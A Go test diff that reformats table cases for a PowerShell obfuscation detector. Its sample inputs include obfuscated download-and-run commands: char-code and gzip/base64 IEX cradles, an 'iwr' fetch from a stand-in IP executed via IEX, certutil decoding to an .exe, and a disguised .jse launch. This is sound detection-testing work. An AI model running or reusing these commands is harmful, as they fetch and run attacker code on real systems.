@@ -23,8 +23,13 @@ func TestObfuscationSigns(t *testing.T) {
 		{"encoded, quoted", `powershell -EncodedCommand "` + encoded + `"`, "encoded_command,encoded_text"},
 		{"not base64 of UTF-16", "tool.exe -e " + base64.StdEncoding.EncodeToString([]byte(strings.Repeat("plain text", 5))), ""},
 		{"another switch", "powershell -ExecutionPolicy " + encoded, "encoded_text"},
-		{"codes", "[char[]](73,69,88,32,40,78,101,119,45,79,98,106,101,99,116,32,78,101,116,46,87,101,98,67,108,105,101,110,116,41,46,68,111,119,110,108,111,97,100,70,105) -join ''|iex", "char_codes,few_codes"},
-		{"numbers without joining", "$ports = 73,69,88,32,40,78,101,119,45,79,98,106,101,99,116,32,78,101,116,46,87,101,98,67,108,105,101,110,116,41,46,68,111,119,110,108,111,97,100,70,105", ""},
+		{"codes", "[char[]](73,69,88,32,40,78,101,119,45,79,98,106,101,99,116,32,78,101,116,46,87,101,98,67,108,105,101,110,116,41,46,68,111," +
+			"119,110,108,111,97,100,70,105) -join ''|iex", "char_codes,few_codes"},
+		{
+			"numbers without joining",
+			"$ports = 73,69,88,32,40,78,101,119,45,79,98,106,101,99,116,32,78,101,116,46,87,101,98,67,108,105,101,110,116,41,46,68,111,119,110," +
+				"108,111,97,100,70,105", "",
+		},
 		{"pieces", "&('ne'+'w-'+'ob'+'je'+'ct') ('Sy'+'st'+'em.'+'Ra'+'nd'+'om')", "concatenation,called_pieces,split_words"},
 		{"a few pieces", "$path = $root + '\\' + 'logs' + '\\' + 'today' + '.txt'; Get-Content $path", ""},
 		{"order", `&("{2}{0}{3}{1}" -f'rit','ut','W','e-Outp') 'x'`, "reordering,called_pieces"},
@@ -37,7 +42,10 @@ func TestObfuscationSigns(t *testing.T) {
 		{"camel case", "Get-ChildItem | Where-Object LastWriteTime | Select-Object FullName", ""},
 		{"slices", "&( $eNv:COmSPEc[4,15,25]-JoIN'') 'Get-Date'", "sliced_variables"},
 		{"reversed", "$s = 'etad-teg'; iex ($s[-1..-($s.Length)] -join '')", "reversed_text"},
-		{"compressed", "IEX (New-Object IO.Compression.GzipStream([Convert]::FromBase64String('" + blob + "')))", "compressed_text,base64_text,run_decoded,encoded_string"},
+		{
+			"compressed", "IEX (New-Object IO.Compression.GzipStream([Convert]::FromBase64String('" + blob + "')))",
+			"compressed_text,base64_text,run_decoded,encoded_string",
+		},
 		{"codec", "certutil -decode a.txt a.exe", "codec_switch"},
 		{"codec under another name", `C:\Temp\c.tmp /DecodeHex a.txt a.exe`, "codec_switch"},
 		{"certificate", "certutil -dump a.cer", ""},
@@ -74,8 +82,16 @@ func TestObfuscationSigns(t *testing.T) {
 		{"the environment", `powershell -c "Write-Host $env:work"`, ""},
 		{"three codes", `& ([char]73+[char]69+[char]88) (iwr http://192.0.2.9/a)`, "few_codes"},
 		{"line ends by code", `$t = 'a' + [char]13 + [char]10 + 'b'; Set-Content x $t`, ""},
-		{"protected text", `[Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR(($x|ConvertTo-SecureString -Key 1,2,3)))|iex`, "protected_text"},
-		{"password", `[Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR(($x|ConvertTo-SecureString -Key 1,2,3)))`, ""},
+		{
+			"protected text",
+			`[Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR(($x|ConvertTo-SecureString ` +
+				`-Key 1,2,3)))|iex`, "protected_text",
+		},
+		{
+			"password",
+			`[Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR(($x|ConvertTo-SecureString ` +
+				`-Key 1,2,3)))`, "",
+		},
 		{"script in the encoded form", `wscript.exe "C:\Users\jdoe\Downloads\invoice.jse"`, "encoded_script"},
 		{"script", `cscript.exe //nologo C:\Tools\report.vbs`, ""},
 		{"file behind a picture", `cmd /c copy /b a.png + b.zip c.png`, "joined_files"},
@@ -111,7 +127,8 @@ func TestObfuscationSigns(t *testing.T) {
 }
 
 func TestObfuscationSignsTakesAnything(t *testing.T) {
-	for _, s := range []string{strings.Repeat("{", 5000), strings.Repeat("{1", 500), strings.Repeat("`", 500), "\xff\xfe" + strings.Repeat("\x00", 64), strings.Repeat("a", maxSigned+9), "%x%:~:~:~:~%%%%%%%%"} {
+	for _, s := range []string{strings.Repeat("{", 5000), strings.Repeat("{1", 500), strings.Repeat("`", 500), "\xff\xfe" +
+		strings.Repeat("\x00", 64), strings.Repeat("a", maxSigned+9), "%x%:~:~:~:~%%%%%%%%"} {
 		ObfuscationSigns(s)
 		PayloadEntropy(s)
 	}
